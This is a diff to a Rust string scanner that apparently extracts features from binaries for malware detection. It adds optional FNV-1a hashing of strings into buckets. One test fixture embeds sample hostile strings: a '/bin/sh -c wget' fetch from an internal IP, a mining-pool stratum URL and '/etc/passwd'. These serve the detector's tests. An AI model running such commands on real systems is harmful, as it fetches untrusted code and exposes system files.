@@ -8,8 +8,10 @@
 //! count column counts strings, not occurrences.
 
 use super::Input;
+use super::fnv::bucket;
 use super::needles::{MARKER_COUNT, MINING_MARKERS, Marker, Matcher, SHELL_MARKERS};
 use super::row::{Row, columns};
+use super::string_hash::{self, HASH_BYTE_BUDGET, HASH_MAX_LEN, HASH_MIN_LEN};
 
 /// Shortest run of printable bytes that counts as a string.
 pub(crate) const MIN_LEN: usize = 5;
@@ -41,6 +43,9 @@ pub(crate) struct StringScan {
     pub upx_first: Option<usize>,
     /// Offset of the last `UPX!`.
     pub upx_last: Option<usize>,
+    /// Strings per FNV-1a bucket (`string_hash`); all zero unless the scan was
+    /// asked to hash.
+    pub hashed: [u32; string_hash::BUCKETS],
 }
 
 impl StringScan {
@@ -240,9 +245,11 @@ fn long_runs(m: u64, width: u32, continues: bool) -> u64 {
     (keep | bottom | top) & m
 }
 
-/// Finds every printable string of `bytes` and classifies it.
-pub(crate) fn scan(bytes: &[u8]) -> StringScan {
+/// Finds every printable string of `bytes` and classifies it; with `hash`, also
+/// fills [`StringScan::hashed`].
+pub(crate) fn scan(bytes: &[u8], hash: bool) -> StringScan {
     let mut state = Classifier::new();
+    state.hash_budget = if hash { HASH_BYTE_BUDGET } else { 0 };
     let mut run: Option<usize> = None;
     let mut chunks = bytes.chunks_exact(CHUNK);
     let mut base = 0usize;
@@ -283,6 +290,8 @@ struct Classifier {
     matcher: &'static Matcher,
     shell_mask: u64,
     mining_mask: u64,
+    /// String bytes that may still be hashed.
+    hash_budget: usize,
 }
 
 impl Classifier {
@@ -301,10 +310,12 @@ impl Classifier {
                 upx_count: 0,
                 upx_first: None,
                 upx_last: None,
+                hashed: [0; string_hash::BUCKETS],
             },
             matcher: Matcher::get(),
             shell_mask: Marker::mask(SHELL_MARKERS),
             mining_mask: Marker::mask(MINING_MARKERS),
+            hash_budget: 0,
         }
     }
 
@@ -351,6 +362,12 @@ impl Classifier {
         let len = s.len();
         if len < MIN_LEN {
             return;
+        }
+        if (HASH_MIN_LEN..=HASH_MAX_LEN).contains(&len) && len <= self.hash_budget {
+            self.hash_budget -= len;
+            if let Some(slot) = self.out.hashed.get_mut(bucket(s, string_hash::BUCKETS)) {
+                *slot = slot.saturating_add(1);
+            }
         }
         let out = &mut self.out;
         out.count = out.count.saturating_add(1);
@@ -578,7 +595,7 @@ mod tests {
     fn counts_strings_and_categories() {
         let data = b"\0\0hello\x01/bin/sh -c 'wget http://10.0.0.1:81/x'\x00ab\x00\
             stratum+tcp://pool.example:3333\x00/etc/passwd\x00UPX!\x00\xffxxUPX!\x02";
-        let s = scan(data);
+        let s = scan(data, true);
         assert_eq!(s.count, 5); // hello, /bin/sh..., stratum..., /etc/passwd, xxUPX!
         assert_eq!(s.marker(Marker::Url), 1);
         assert_eq!(s.marker(Marker::BinSh), 1);
@@ -631,7 +648,7 @@ mod tests {
                     }
                 })
                 .collect();
-            let s = scan(&bytes);
+            let s = scan(&bytes, true);
             assert_eq!(
                 (s.count, s.total_len, s.max_len),
                 naive(&bytes),
@@ -639,8 +656,8 @@ mod tests {
             );
         }
         let all = vec![b'x'; 1000];
-        assert_eq!(scan(&all).count, 1);
-        assert_eq!(scan(&all).max_len, 1000);
+        assert_eq!(scan(&all, true).count, 1);
+        assert_eq!(scan(&all, true).max_len, 1000);
     }
 
     #[test]
@@ -752,9 +769,9 @@ mod tests {
 
     #[test]
     fn empty_and_binary() {
-        let s = scan(&[]);
+        let s = scan(&[], true);
         assert_eq!(s.count, 0);
-        let s = scan(&[0u8, 1, 2, 0xff, 0x80]);
+        let s = scan(&[0u8, 1, 2, 0xff, 0x80], true);
         assert_eq!(s.count, 0);
         let mut row_cells = [0.0f32; LEN];
         fill_from(&s, 0, &mut Row::new(&mut row_cells));
